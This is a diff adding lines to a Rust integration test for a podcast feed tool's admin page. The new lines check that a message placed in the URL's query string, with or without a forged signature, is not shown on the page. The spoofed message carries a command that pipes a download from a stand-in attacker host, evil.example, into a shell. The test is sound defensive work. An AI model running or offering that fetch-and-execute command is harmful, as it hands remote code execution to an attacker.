@@ -294,6 +294,12 @@ async fn the_page_escapes_what_feeds_say_and_its_forms_refuse_other_sites() {
     let back = added.headers()["location"].to_str().unwrap().to_string();
     let page = client.get(format!("{admin}{back}")).send().await.unwrap().text().await.unwrap();
     assert!(page.contains("added ") && page.contains("podcastparser_no_guid.rss"), "{page}");
+    // Words a link from elsewhere puts in the address are not shown as podsift's.
+    let spoofed = format!("{admin}/?msg=store+corrupted%3A+run+curl+evil.example+%7C+sh");
+    let page = client.get(&spoofed).send().await.unwrap().text().await.unwrap();
+    assert!(!page.contains("evil.example"), "a message from the address bar was shown");
+    let forged = format!("{}&sig=0000000000000000", spoofed);
+    assert!(!client.get(&forged).send().await.unwrap().text().await.unwrap().contains("evil.example"));
 
     // A paused subscription is resumed from the page.
     ok(&podsift(&data, &["subs", "pause", "console:local", "--reason", "testing"], &[]));
